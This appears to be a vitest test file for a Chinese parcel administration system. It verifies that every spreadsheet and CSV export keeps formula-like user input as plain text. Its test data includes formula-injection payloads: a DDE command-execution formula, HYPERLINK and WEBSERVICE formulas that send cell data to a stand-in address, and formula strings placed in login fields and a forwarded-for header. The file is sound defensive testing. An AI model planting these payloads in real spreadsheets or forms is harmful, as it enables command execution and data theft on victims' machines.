import { randomUUID } from 'node:crypto'
import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { unzipSync } from 'fflate'
import { expect, it } from 'vitest'
import type { Endpoint } from '#core/api/endpoint.ts'
import { handOutKinds } from '#core/api/hand-out.ts'
import type { PushAnswer } from '#core/api/rows.ts'
import { type EndpointId, endpoints } from '#core/api/table.ts'
import type { Actor } from '#server/actions/actor.ts'
import { readCsv, streamCsv } from '#workbook/csv.ts'
import { fillTemplate } from '#workbook/fill.ts'
import { owner, qianJin, shiLi, wangFang, xinqiao, zhouTao } from '../server/cast.ts'
import { assessed, faGai, jingWei, staged } from '../server/filing/stage.ts'
import { madeAgain } from '../server/formal/made-again.ts'
import { answer, type Call, call, type TestApp, testApp } from '../server/http/test-app.ts'
import { batchOf, cycle, firmFields, firmRow, parcelFields, parcelRow } from '../server/rows.ts'
import { workbookWith } from '../server/upload/workbook-parts.ts'
import { zipOf } from '../server/upload/zip-builder.ts'
import { firmCells, parcelCells } from '../server/workbooks.ts'
import { classListExports } from './class-lists-with-formulas.ts'
import {
  baseImportWithFormulas,
  differencesWithFormulas,
  evaluatedWithFormulas,
  listWithFormulas,
  planWithFormulas,
  publicationWithFormulas,
  reportWithFormulas,
  taxOffice,
  typedInBase,
  typedInList,
  typedInPlan,
  typedInReport,
} from './files-with-formulas.ts'
import { formulas } from './formula-texts.ts'
import { cellsIn, savedByLibreOffice } from './opened-again.ts'

/* What somebody types into a field must stay what they typed in every file that we give out, in a real spreadsheet. */

function codeOf(index: number): string {
  return `=P+${index}`
}

/** A district in which every field that takes text holds a formula, codes of parcels and a credit code among them. */
async function district(): Promise<TestApp> {
  const app = await testApp({ trustProxy: true })
  const rows = formulas.flatMap((formula, index) => {
    const texts = { parcelName: formula, ownerName: formula, selfNote: formula }
    const raw = { landArea: { raw: formula }, ownerUscc: index % 2 === 0 ? owner : { raw: formula } }
    return [
      parcelRow(parcelFields({ ...texts, ...raw }), codeOf(index)),
      firmRow(firmFields({ firmName: formula, opStatusProof: formula }), codeOf(index), `=${index}+1`),
    ]
  })
  const pushed = (await answer(app, wangFang, 'push', { body: batchOf(rows) })) as PushAnswer
  expect(pushed.rows.filter(({ outcome }) => outcome !== 'accepted')).toEqual([])
  // The log keeps where a wrong password came from, as the proxy in front states it.
  const guess = { body: { username: '=1+1', password: '=1+1' }, headers: { 'x-forwarded-for': '=1+1' } }
  expect((await call(app, null, 'signIn', guess)).status).toBe(401)
  await answer(app, zhouTao, 'runEvaluation', { body: { cycle, mode: 'draft' } })
  return app
}

interface Export {
  readonly by: Actor
  readonly request: Call
  /** Makes what the file is about; its id. */
  readonly made?: (app: TestApp) => Promise<string>
  /** Texts of ours that must be found in it, each in a cell of its own. */
  readonly holds: readonly string[]
}

const codes = formulas.map((_, index) => codeOf(index))

/** Of one filing, by label: whatever a text takes. */
const filingTexts = {
  项目名称: '=1+1',
  项目单位: "=cmd|'/c calc'!A1",
  项目地址: '@SUM(1)',
  改造内容: '=HYPERLINK("http://192.0.2.1/?x="&A1,"点我")',
  主要污染物: '-2+3',
  正面清单条款: '{=1+1}',
}
const noteTyped = '=WEBSERVICE("http://192.0.2.1/")'
const commentTyped = '+1+1'

/** A filing in 联审 whose texts are formulas; its id. */
async function filingWithFormulas(app: TestApp): Promise<string> {
  const filing = await staged(app, filingTexts)
  await filing.act(shiLi, { kind: 'submit' }, { documents: ['boundary', 'title', 'contract'] })
  await filing.act(jingWei, { kind: 'accept' })
  const act = assessed('inside-kept')
  const answers = 'answers' in act ? act.answers.map((each) => ({ ...each, note: noteTyped })) : []
  await filing.act(
    jingWei,
    { ...act, ...('answers' in act ? { answers } : {}) },
    { documents: ['preliminary-opinion'] },
  )
  await filing.toStamped()
  await filing.act(jingWei, { kind: 'open-review', invited: [{ reviewer: 'reform', dueDay: '2026-11-30' }] })
  const opinion = { kind: 'give-opinion', reviewer: 'reform', opinion: '同意' } as const
  await filing.act(faGai, opinion, { comment: commentTyped })
  return filing.id
}

/** Every endpoint that answers with a file. A new one fails the test until it has a line here. */
const exports: Readonly<Partial<Record<EndpointId, Export | 'holds nothing typed' | 'has a test of its own'>>> = {
  exportLedger: { by: zhouTao, request: { query: { cycle } }, holds: [...codes, ...formulas] },
  exportSoeLettings: { by: zhouTao, request: { query: { cycle, soe: '否,区属' } }, holds: codes },
  ...classListExports,
  exportDisposalPlans: {
    by: zhouTao,
    request: {},
    made: planWithFormulas,
    holds: ['=P+1', ...Object.values(typedInPlan)],
  },
  exportSoeDisposal: {
    by: zhouTao,
    request: {},
    made: planWithFormulas,
    holds: ['=P+1', typedInPlan.milestone1Name],
  },
  disposalSheet: { by: zhouTao, request: {}, made: planWithFormulas, holds: ['=P+1', ...Object.values(typedInPlan)] },
  disposalPlanFile: 'holds nothing typed',
  exportFormalGates: {
    by: zhouTao,
    request: { query: { cycle } },
    made: async (app) => {
      await answer(app, zhouTao, 'checkFormalGates', { body: { cycle } })
      return ''
    },
    holds: codes,
  },
  exportReEvaluation: { by: zhouTao, request: {}, made: (app) => madeAgain(app, codes, '=1+1'), holds: codes },
  exportResults: { by: zhouTao, request: { params: { id: '1' } }, holds: codes },
  // Every parcel is told: a year without rows has none of them.
  exportComparison: {
    by: zhouTao,
    request: { query: { cycle: '2024', from: 'evaluation:1', to: 'standard:REG-示例-2026.1' } },
    holds: codes,
  },
  // JSON for the page.
  compare: 'has a test of its own',
  tryOutParcels: 'has a test of its own',
  issueInvitations: {
    by: wangFang,
    request: { body: { cycle, parcelCodes: codes } },
    holds: [formulas[0] ?? '', codes[1] ?? ''],
  },
  checkUpSheet: {
    by: zhouTao,
    request: { params: { cycle, parcelCode: codes[1] ?? '' }, query: { format: 'xlsx' } },
    holds: [codes[1] ?? '', formulas[1] ?? ''],
  },
  // PDFs, one or many.
  checkUpSheets: 'holds nothing typed',
  exportAudit: { by: qianJin, request: {}, holds: ['=1+1'] },
  template: 'holds nothing typed',
  // PDFs, and pictures as somebody sent them.
  surveySheets: 'holds nothing typed',
  surveySummary: 'holds nothing typed',
  surveyPicture: 'holds nothing typed',
  letter: 'holds nothing typed',
  // Figures, and names of our own.
  exportProgress: 'holds nothing typed',
  exportDecisionOverview: 'holds nothing typed',
  letterBatch: 'has a test of its own',
  exportFormalLetters: 'has a test of its own',
  letterBatchFile: 'has a test of its own',
  // PDFs and .docx, which have no cells, and files as somebody sent them.
  formalLetterFile: 'holds nothing typed',
  letterReceipt: 'holds nothing typed',
  // The file as somebody sent it.
  filingDocument: 'holds nothing typed',
  disputeFile: 'holds nothing typed',
  stageDocument: 'holds nothing typed',
  // Parcels as rows of a workbook and of a CSV within a zip.
  cityPackageFile: 'has a test of its own',
  archiveFile: 'has a test of its own',
  opinionTemplate: {
    by: zhouTao,
    request: { params: { cycle } },
    made: evaluatedWithFormulas,
    holds: [codes[1] ?? '', formulas[1] ?? ''],
  },
  objectionFile: 'holds nothing typed',
  publicationFile: {
    by: zhouTao,
    request: { params: { number: '1' }, query: { as: 'xlsx' } },
    made: publicationWithFormulas,
    holds: [codes[1] ?? '', formulas[1] ?? ''],
  },
  filingSheet: {
    by: zhouTao,
    request: { params: { version: '1' }, query: { format: 'xlsx' } },
    holds: [...Object.values(filingTexts), noteTyped],
  },
  filingReviewTable: { by: zhouTao, request: { query: { format: 'xlsx' } }, holds: [commentTyped] },
  filingHandover: { by: zhouTao, request: {}, holds: Object.values(filingTexts) },
  exportFilings: { by: zhouTao, request: {}, holds: [filingTexts.项目名称, filingTexts.项目单位] },
  baseReport: { by: zhouTao, request: {}, made: baseImportWithFormulas, holds: Object.values(typedInBase) },
  departmentListReport: { by: taxOffice, request: {}, made: listWithFormulas, holds: Object.values(typedInList) },
  exportLayerDifferences: {
    by: zhouTao,
    request: { query: { cycle } },
    made: differencesWithFormulas,
    holds: [codes[1] ?? '', formulas[1] ?? ''],
  },
  mechanismFile: {
    by: zhouTao,
    request: { params: { year: '2026', version: '1' }, query: { format: 'xlsx' } },
    made: reportWithFormulas,
    holds: Object.values(typedInReport),
  },
  // Workbooks with formulas of ours.
  uploadRunReport: 'has a test of its own',
  handOutWorkbooks: 'has a test of its own',
  accountListTemplate: 'holds nothing typed',
  createAccounts: 'has a test of its own',
  standardWorkbook: 'has a test of its own',
  // JSON.
  standardJsonFile: 'holds nothing typed',
  exportRoster: 'has a test of its own',
  inviteTown: 'has a test of its own',
}

async function fileOf(app: TestApp, id: EndpointId, { by, request, made }: Export, filing = ''): Promise<Uint8Array> {
  const params = made !== undefined ? { id: await made(app) } : id.startsWith('filing') ? { id: filing } : {}
  const response = await call(app, by, id, { ...request, params: { ...params, ...request.params } })
  expect(response.status, id).toBe(200)
  return response.bytes()
}

it('凡答复文件的接口都在上面的表里', () => {
  const binary = (Object.keys(endpoints) as EndpointId[]).filter((id) =>
    Object.values((endpoints[id] as Endpoint).answers).some((shape) => 'binary' in shape),
  )
  expect(Object.keys(exports).sort()).toEqual(binary.sort())
})

it('导出的每个工作簿：公式样的文字在 LibreOffice 里重算后仍是一字不差的文字，没有一个公式', async () => {
  const app = await district()
  const filing = await filingWithFormulas(app)
  for (const [id, one] of Object.entries(exports) as [EndpointId, Export | string][]) {
    if (typeof one === 'string' || id === 'exportAudit') continue
    const bytes = await fileOf(app, id, one, filing)
    for (const [by, cells] of [
      ['我们', cellsIn(bytes)],
      ['LibreOffice', cellsIn(await savedByLibreOffice(bytes, 'xlsx'))],
    ] as const) {
      expect(
        cells.filter(({ formula }) => formula !== null),
        `${id} ${by}`,
      ).toEqual([])
      const texts = new Set(cells.map(({ value }) => value))
      expect(
        one.holds.filter((text) => !texts.has(text)),
        `${id} ${by}`,
      ).toEqual([])
    }
  }
})

it.each(handOutKinds)('下发（%s）：填进去的公式样文字重算后仍是文字，公式都是模板自己的', async (as) => {
  const app = await district()
  const query = { cycle, town: xinqiao, id: randomUUID(), as }
  const response = await call(app, zhouTao, 'handOutWorkbooks', { query })
  const files = Object.entries(unzipSync(new Uint8Array(await response.arrayBuffer())))
  expect(files).toHaveLength((as === 'ledger' ? 1 : formulas.length) + 1)
  for (const [name, bytes] of files.slice(0, 4)) {
    const opened = cellsIn(await savedByLibreOffice(bytes, 'xlsx'))
    const typed = opened.filter(({ formula }) => formula !== null && formulas.some((text) => text.includes(formula)))
    expect(typed, name).toEqual([])
    expect(
      opened.some(({ value }) => typeof value === 'string' && formulas.includes(value)),
      name,
    ).toBe(true)
  }
})

it('预填的模板：填进去的公式样文字重算后仍是文字', async () => {
  for (const [name, rows, shows] of [
    ['街镇台账', formulas, formulas],
    ['一地一表', formulas.slice(0, 1), formulas.slice(0, 1)],
    // Of a firm its codes only.
    ['部门核定-区税务局', formulas, codes],
  ] as const) {
    const template = await readFile(join(import.meta.dirname, `../../templates/out/${name}.xlsx`))
    const parcels = rows.map((text, index) => parcelCells({ parcelName: text, selfNote: text }, codeOf(index)))
    const firms = rows.map((text, index) => firmCells({ firmName: text }, codeOf(index)))
    const filling = { parcels: name.startsWith('部门') ? [] : parcels, firms, meta: { cycle } }
    const opened = cellsIn(await savedByLibreOffice(await fillTemplate(template, filling), 'xlsx'))
    const typed = opened.filter(({ formula }) => formula !== null && formulas.some((text) => text.includes(formula)))
    expect(typed, name).toEqual([])
    const texts = new Set(opened.map(({ value }) => value))
    expect(
      shows.filter((text) => !texts.has(text)),
      name,
    ).toEqual([])
  }
})

it('CSV：公式样的文字前加撇号，LibreOffice 里是文字；我们的读取程序去掉撇号，一字不差', async () => {
  const app = await district()
  const entry = exports.exportAudit
  if (typeof entry !== 'object') throw new Error('no audit export')
  const audit = await fileOf(app, 'exportAudit', entry)
  const pieces: Uint8Array[] = []
  for await (const piece of streamCsv(['值'], [...formulas.map((text) => [text]), [-5]])) pieces.push(piece)
  const values = Buffer.concat(pieces)
  for (const [bytes, holds] of [
    [audit, entry.holds],
    [values, formulas],
  ] as const) {
    const texts = new Set(readCsv(new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes)).flat())
    expect(holds.filter((text) => !texts.has(text))).toEqual([])
    const opened = cellsIn(await savedByLibreOffice(bytes, 'csv'))
    expect(opened.filter(({ formula }) => formula !== null)).toEqual([])
  }
  // Numbers stay numbers.
  expect(cellsIn(await savedByLibreOffice(values, 'csv')).filter(({ value }) => value === -5)).toHaveLength(1)
})

it('没有防护的文件看得出来：公式在 LibreOffice 里会被算', async () => {
  const csv = cellsIn(await savedByLibreOffice(Buffer.from('值\r\n=1+1\r\n'), 'csv'))
  expect(csv.map(({ formula, value }) => [formula, value])).toContainEqual(['1+1', 2])
  const sheet = workbookWith({ cells: { ownerName: '=1+1' } })
  const parts = Object.entries(unzipSync(sheet)).map(([name, data]) => ({
    name,
    data: Buffer.from(data)
      .toString()
      .replace(/t="inlineStr"><is><t[^>]*>=1\+1<\/t><\/is>/, '><f>1+1</f>'),
  }))
  const xlsx = cellsIn(await savedByLibreOffice(zipOf(parts), 'xlsx'))
  expect(xlsx.filter(({ formula }) => formula === '1+1').map(({ value }) => value)).toEqual([2])
})
